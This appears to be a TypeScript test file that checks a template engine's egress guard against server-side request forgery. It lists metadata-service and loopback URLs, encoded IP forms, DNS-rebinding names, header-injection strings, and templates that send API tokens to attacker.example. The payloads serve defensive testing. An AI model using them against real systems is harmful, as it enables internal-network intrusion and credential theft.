/**
 * Catalogue cases of category NET (docs/security.md NET), through templates ({api endpoint=...})
 * against the harness's real EgressGuard (src/security/host/http.ts): attacker-chosen names
 * resolve to the canary listeners, one allowed server on 127.0.0.2 records what it receives.
 * Every case also runs under the harness's zero-canary-connection rule.
 *
 * Not automated: NET-14 (indirect fetchers: generate_pdf, get_file and cloudfn_token are not
 * automated here; unzip, zip and gzip fetch through the guard: FS-18; purge_cdn_cache, repo_deploy
 * and kick_spider go through HostAdapters.http, tested in test/site/webops); NET-06's https->http downgrade form (the harness's
 * allowed server speaks plain http; the guard's own tests cover it).
 */
import type { Canaries, HarnessContext, RenderAttempt, SecurityCase } from '../types.js';
import { type Refusal, allRefused, judge } from './helpers.js';
import { harnessHttp, type HttpHarnessState } from '../host/http.js';

const PROBE = '{api endpoint=$u status_var=s http_code_var=c}[{$s}/{$c}]';

function render(
  h: HarnessContext,
  u: string,
  extra: Record<string, unknown> = {},
  template = PROBE,
): Promise<RenderAttempt> {
  return h.render(template, { vars: { u, ...extra } });
}

/** PROBE on `u`, which must be refused with one of `codes`. */
function probeRefused(u: string, codes: string[]): Refusal {
  return { template: PROBE, codes, opts: { vars: { u } }, label: JSON.stringify(u) };
}

/** Every URL of the corpus must be refused with one of `codes`. */
function urlsRefused(
  id: string,
  title: string,
  urls: (s: HttpHarnessState) => string[],
  codes: string[],
): SecurityCase {
  return {
    id,
    category: 'NET',
    title,
    async run(h) {
      const s = harnessHttp();
      const before = s.seen.length;
      const list = urls(s);
      const bad = await allRefused(
        h,
        list.map((u) => probeRefused(u, codes)),
      );
      if (bad) return bad;
      if (s.seen.length !== before)
        return { status: 'escaped', detail: 'a refused URL still reached the allowed server' };
      return { status: 'contained', detail: `${list.length} URLs refused with ${codes.join(' or ')}` };
    },
  };
}

const SSRF = ['E_SSRF_DENIED'];
const SSRF_OR_URL = ['E_SSRF_DENIED', 'E_BAD_URL'];

const at = (s: HttpHarnessState, host: string, path = '/'): string => `http://${host}:${s.port}${path}`;

export const NET: SecurityCase[] = [
  urlsRefused(
    'NET-01',
    'literal internal addresses',
    (s) => [
      `http://${s.internal.host}:${s.internal.port}/containers/json`,
      `http://${s.metadata.host}:${s.metadata.port}/latest/meta-data/`,
      'http://127.0.0.1:2375/containers/json',
      'http://169.254.169.254/latest/meta-data/',
      `http://[::1]:${s.internal.port}/`,
      'http://[::1]/',
      'http://0.0.0.0:8080/',
      `http://0.0.0.0:${s.internal.port}/`,
      'http://10.0.0.5/',
      'http://100.64.0.1/',
      'http://[fd00::1]/',
      'http://255.255.255.255/',
      'http://[fe80::1]/',
      'http://192.168.0.1/',
      'http://172.16.0.1/',
    ],
    SSRF,
  ),
  urlsRefused(
    'NET-02',
    'encoded IPv4 forms',
    (s) =>
      [
        '2130706433',
        '0x7f000001',
        '0177.0.0.1',
        '127.1',
        '127.0.0.1.',
        '\uff11\uff12\uff17.0.0.1',
        '0',
        '0x7f.1',
        '017700000001',
        '127.000.000.001',
      ].map((h) => `http://${h}:${s.internal.port}/`),
    SSRF_OR_URL,
  ),
  urlsRefused(
    'NET-03',
    'IPv6 wrappers of internal addresses',
    (s) => [
      `http://[::ffff:127.0.0.1]:${s.internal.port}/`,
      `http://[::ffff:7f00:1]:${s.internal.port}/`,
      'http://[64:ff9b::a9fe:a9fe]/',
      'http://[2002:a9fe:a9fe::]/',
      'http://[fe80::1%25eth0]/',
      `http://[::127.0.0.1]:${s.internal.port}/`,
      `http://[0:0:0:0:0:ffff:127.0.0.1]:${s.internal.port}/`,
    ],
    SSRF_OR_URL,
  ),
  urlsRefused(
    'NET-04',
    'names that resolve to internal addresses (also public+private answers, either order)',
    (s) => [
      `http://internal.attacker.example:${s.internal.port}/`,
      `http://metadata.attacker.example:${s.metadata.port}/`,
      `http://localtest.me:${s.internal.port}/`,
      `http://127.0.0.1.nip.io:${s.internal.port}/`,
      `http://mixed.attacker.example:${s.port}/hello`,
      `http://mixed2.attacker.example:${s.port}/hello`,
      `http://v6.attacker.example:${s.internal.port}/`,
      `http://localhost:${s.internal.port}/`,
      `http://foo.localhost:${s.internal.port}/`,
    ],
    SSRF,
  ),
  {
    id: 'NET-05',
    category: 'NET',
    title: 'DNS rebinding (public, then private, TTL 0)',
    async run(h) {
      const s = harnessHttp();
      // The server closes each connection, so every request resolves the name again.
      const t = '{api endpoint=$u var=r status_var=s}{$r};';
      const outputs: string[] = [];
      let refused = 0;
      for (let i = 0; i < 4; i++) {
        const a = await render(h, `http://rebind.attacker.example:${s.port}/who`, {}, t);
        const o = judge(
          h,
          a,
          a.code === 'E_SSRF_DENIED' || a.output === 'public-server;',
          'only the public answer was used',
        );
        if (o.status !== 'contained') return o;
        if (a.code) refused++;
        else outputs.push(a.output ?? '');
      }
      if (refused === 0)
        return {
          status: 'escaped',
          detail: 'the private answer of the rebinding name was never refused (resolver not consulted?)',
        };
      return {
        status: 'contained',
        detail: `${refused} private answers refused, ${outputs.length} public answers served`,
      };
    },
  },
  {
    id: 'NET-06',
    category: 'NET',
    title: 'redirects to internal targets, long chains, credentials across origins',
    async run(h) {
      const s = harnessHttp();
      const redirect = (to: string, status = 302): string =>
        at(s, 'api.example.com', `/redirect?status=${status}&to=${encodeURIComponent(to)}`);
      const post = (u: string, codes: string[]): Refusal => ({
        template: '{api endpoint=$u method="POST" body="x" status_var=s}[{$s}]',
        codes,
        opts: { vars: { u } },
        label: JSON.stringify(u),
      });
      const refused = [
        post(redirect('http://169.254.169.254/latest/meta-data/'), SSRF),
        post(redirect(`http://127.0.0.1:${s.internal.port}/`), SSRF),
        post(redirect(`//127.0.0.1:${s.internal.port}/`), SSRF),
        post(redirect(`http://internal.attacker.example:${s.internal.port}/`, 307), SSRF),
        post(redirect(`http://metadata.attacker.example:${s.metadata.port}/`, 308), SSRF),
        post(redirect('file:///etc/passwd'), SSRF_OR_URL),
        post(at(s, 'api.example.com', '/chain?n=0'), ['E_HTTP_LIMIT']),
      ];
      const bad = await allRefused(h, refused);
      if (bad) return bad;
      // Authorization is dropped when a redirect leaves the origin.
      const before = s.seen.length;
      const a = await h.render(
        '{append var=hd value="Authorization: Bearer CROSS-ORIGIN-CRED"}{api endpoint=$u headers=$hd var=r}{$r}',
        {
          vars: { u: redirect(at(s, 'attacker.example', '/echo')) },
        },
      );
      const o = judge(
        h,
        a,
        a.output !== undefined && a.output.includes('"authorization":null'),
        'credentials dropped on the cross-origin hop',
      );
      if (o.status !== 'contained') return o;
      const leaked = s.seen
        .slice(before)
        .some((r) => r.host.startsWith('attacker.example') && JSON.stringify(r.headers).includes('CROSS-ORIGIN-CRED'));
      if (leaked) return { status: 'escaped', detail: 'the Authorization header reached the other origin' };
      return {
        status: 'contained',
        detail: `${refused.length} redirect forms refused; Authorization dropped across origins`,
      };
    },
  },
  urlsRefused(
    'NET-07',
    'schemes other than http/https',
    () => [
      'file:///etc/passwd',
      'data:text/plain,x',
      'ftp://api.example.com/x',
      'gopher://api.example.com:70/_x',
      'ws://api.example.com/',
      'wss://api.example.com/',
      'blob:https://api.example.com/uuid',
      'http+unix://%2Fvar%2Frun%2Fdocker.sock/info',
      'unix:/var/run/docker.sock',
      'javascript:alert(1)',
      'dict://api.example.com:11211/',
    ],
    SSRF_OR_URL,
  ),
  urlsRefused(
    'NET-08',
    'ports outside the allow-list',
    () => [
      'http://api.example.com:25/',
      'http://api.example.com:6379/',
      'http://api.example.com:11211/',
      'http://api.example.com:0/',
      'https://api.example.com:22/',
      'http://api.example.com:65535/',
    ],
    SSRF_OR_URL,
  ),
  urlsRefused(
    'NET-09',
    'parser confusion (userinfo, fragments, backslashes, whitespace)',
    (s) => [
      `http://api.example.com@127.0.0.1:${s.internal.port}/`,
      `http://127.0.0.1:${s.internal.port}#@api.example.com/`,
      `http://api.example.com\\@127.0.0.1:${s.internal.port}/`,
      `http://api.example.com:${s.port}\\@127.0.0.1:${s.internal.port}/`,
      `http://api.exa\tmple.com:${s.port}/hello`,
      `http://api.example.com:${s.port}/he\nllo`,
      `http://api.example.com:${s.port}/hello\r\nHost: internal`,
      ` http://127.0.0.1:${s.internal.port}/`,
      `http://@api.example.com:${s.port}/hello`,
      `http://127.0.0.1:${s.internal.port}?@api.example.com/`,
    ],
    SSRF_OR_URL,
  ),
  {
    id: 'NET-10',
    category: 'NET',
    title: 'header injection and framing headers',
    async run(h) {
      const s = harnessHttp();
      const before = s.seen.length;
      const forms = [
        'X: a\r\nHost: internal',
        'X: a\nX-Other: b',
        'Host: 169.254.169.254',
        'Transfer-Encoding: chunked',
        'Content-Length: 0',
        'Bad Name: x',
        'Connection: close',
        'Proxy-Authorization: x',
        'X-Nul: a\u0000b',
        ': no-name',
        'no colon',
      ];
      const t = '{append var=hd value=$hv}{api endpoint=$u headers=$hd status_var=s}[{$s}]';
      const u = at(s, 'api.example.com', '/hello');
      const bad = await allRefused(
        h,
        forms.map((hv) => ({
          template: t,
          codes: ['E_BAD_HEADER'],
          opts: { vars: { u, hv } },
          label: JSON.stringify(hv),
        })),
      );
      if (bad) return bad;
      if (s.seen.length !== before)
        return { status: 'escaped', detail: 'a request with a refused header reached the server' };
      return { status: 'contained', detail: `${forms.length} header forms refused before any request` };
    },
  },
  {
    id: 'NET-11',
    category: 'NET',
    title: 'response bombs: gzip bomb, endless body, 100 000 headers, a drip',
    async run(h) {
      const s = harnessHttp();
      const limited = [
        at(s, 'api.example.com', '/bomb'),
        at(s, 'api.example.com', '/endless'),
        `http://api.example.com:${s.rawPort}/many-headers`,
      ];
      const bad = await allRefused(
        h,
        limited.map((u) => probeRefused(u, ['E_HTTP_LIMIT'])),
      );
      if (bad) return bad;
      const t0 = performance.now();
      const a = await h.render('{api endpoint=$u timeout=1 status_var=s http_code_var=c}[{$s}/{$c}]', {
        vars: { u: at(s, 'api.example.com', '/drip') },
      });
      const ms = performance.now() - t0;
      const o = judge(
        h,
        a,
        a.output === '[0/0]' && ms < 3000,
        'a dripping body ends at the request deadline with status 0',
      );
      if (o.status !== 'contained') return o;
      return {
        status: 'contained',
        detail: 'bomb, endless body and header flood refused with E_HTTP_LIMIT; drip cut at the 1 s timeout',
        figures: { dripMs: Math.round(ms) },
      };
    },
  },
  {
    id: 'NET-12',
    category: 'NET',
    title: 'request volume per render',
    async run(h) {
      const s = harnessHttp();
      const before = s.seen.length;
      const a = await h.render('{section name=i loop=1000}{api endpoint=$u status_var=s}{/section}done', {
        vars: { u: at(s, 'api.example.com', '/hello') },
      });
      const sent = s.seen.length - before;
      const o = judge(h, a, a.code === 'E_QUOTA' && sent <= 100, 'refused with E_QUOTA after at most 100 requests');
      return o.status === 'contained'
        ? { ...o, detail: `${o.detail} (${sent} sent)`, figures: { sent } }
        : { ...o, detail: `${o.detail} (${sent} sent)` };
    },
  },
  {
    id: 'NET-13',
    category: 'NET',
    title: 'shared HTTP cache across tenants',
    async run(h) {
      const s = harnessHttp();
      const u = at(s, 'api.example.com', `/private?nonce=${Date.now()}${Math.random()}`);
      const t = '{if $p}{append var=hd value="X-Private: A"}{/if}{api endpoint=$u headers=$hd cache_time=60 var=r}{$r}';
      const a1 = await h.render(t, { vars: { u, p: true } });
      const a2 = await h.render(t, { vars: { u, p: true } });
      const b = await h.render(t, { vars: { u, p: false }, identity: { tenant: 'victim' } });
      const c = await h.render(t, { vars: { u, p: false } });
      // Tenant B sending the very same request (same header) must not get A's entry either.
      const b2 = await h.render(t, { vars: { u, p: true }, identity: { tenant: 'victim' } });
      for (const x of [a1, a2, b, c, b2]) {
        const o = judge(h, x, x.output !== undefined, 'rendered');
        if (o.status !== 'contained') return o;
      }
      if (a1.output !== a2.output)
        return {
          status: 'escaped',
          detail: `the cache did not serve tenant A's second call (${a1.output} / ${a2.output}): the case would prove nothing`,
        };
      if (b.output!.includes(':A:'))
        return { status: 'escaped', detail: "tenant B received tenant A's cached private response" };
      if (c.output!.includes(':A:'))
        return {
          status: 'escaped',
          detail: 'a call without the private header received the cached response of a call with it',
        };
      if (b2.output === a1.output)
        return { status: 'escaped', detail: "tenant B's identical request was answered from tenant A's cache entry" };
      return {
        status: 'contained',
        detail: `A cached (${a1.output}); B got ${b.output}; A without the header got ${c.output}; B with the same header got ${b2.output}`,
      };
    },
  },
  {
    id: 'NET-15',
    category: 'NET',
    title: 'secrets sent to chosen hosts (mTLS names, header handles)',
    async run(h) {
      const s = harnessHttp();
      const before = s.seen.length;
      const forms = [
        '{api endpoint=$u sslcert="API_TOKEN" sslkey="API_TOKEN" status_var=s}',
        '{api endpoint=$u cainfo="API_TOKEN" status_var=s}',
        '{api endpoint=$u sslcert="VICTIM_KEY" sslkey="VICTIM_KEY" status_var=s}',
        '{secret var=t key="API_TOKEN"}{append var=hd value="Authorization: Bearer `$t`"}{api endpoint=$u headers=$hd status_var=s}',
        '{secret var=t key="API_TOKEN"}{append var=hd value="X-Api-Key: `$t`"}{api endpoint=$u headers=$hd status_var=s}',
      ];
      const expected = [
        'E_SECRET_DENIED',
        'E_SECRET_DENIED',
        'E_SECRET_NOT_FOUND',
        'E_SECRET_DENIED',
        'E_SECRET_DENIED',
      ];
      const u = at(s, 'attacker.example', '/echo');
      const bad = await allRefused(
        h,
        forms.map((t, i) => ({ template: t, codes: [expected[i]!], opts: { vars: { u } } })),
      );
      if (bad) return bad;
      if (s.seen.length !== before) return { status: 'escaped', detail: 'a refused request reached the server' };
      // Control: the same secret to a host it lists is substituted (so the refusals above are the rule, not a broken feature).
      const ok = await h.render(forms[3]!, { vars: { u: `https://api.example.com:${s.httpsPort}/hello` } });
      const own = (h.canaries as Canaries & { ownSecretValue?: string }).ownSecretValue;
      const arrived =
        own !== undefined && s.seen.slice(before).some((r) => r.headers.authorization === `Bearer ${own}`);
      const o = judge(h, ok, ok.output !== undefined && arrived, 'the secret reaches only the host it lists');
      return o.status === 'contained'
        ? { ...o, detail: `${forms.length} forms refused; the listed host received the secret` }
        : o;
    },
  },
  {
    id: 'NET-16',
    category: 'NET',
    title: 'blind probing of internal ports',
    async run(h) {
      const s = harnessHttp();
      const targets = [
        `http://10.0.0.7:${s.internal.port}/`,
        `http://127.0.0.1:${s.internal.port}/`, // a canary listens here
        `http://127.0.0.3:${s.internal.port}/`, // usually nothing here
        `http://internal.attacker.example:${s.internal.port}/`,
        `http://metadata.attacker.example:${s.internal.port}/`,
      ];
      const answers: string[] = [];
      let slowest = 0;
      const bad = await allRefused(
        h,
        targets.map((u) => probeRefused(u, SSRF)),
        (a, i) => {
          answers.push(`${a.code} ${(a.message ?? '').split(targets[i]!).join('<url>')}`);
          slowest = Math.max(slowest, a.ms);
        },
      );
      if (bad) return bad;
      const literal = new Set(answers.slice(0, 3));
      const named = new Set(answers.slice(3));
      if (literal.size !== 1 || named.size !== 1)
        return { status: 'escaped', detail: `answers differ by target: ${[...literal, ...named].join(' | ')}` };
      const ports = [22, 80, 443, 6379];
      for (const p of ports) {
        const a = await render(h, `http://10.0.0.7:${p}/`);
        const o = judge(
          h,
          a,
          a.code === 'E_SSRF_DENIED' && !a.output,
          'refused with E_SSRF_DENIED, no status assigned',
        );
        if (o.status !== 'contained') return o;
      }
      return {
        status: 'contained',
        detail: 'one error per URL shape, independent of whether anything listens',
        figures: { slowestMs: Math.round(slowest) },
      };
    },
  },
];
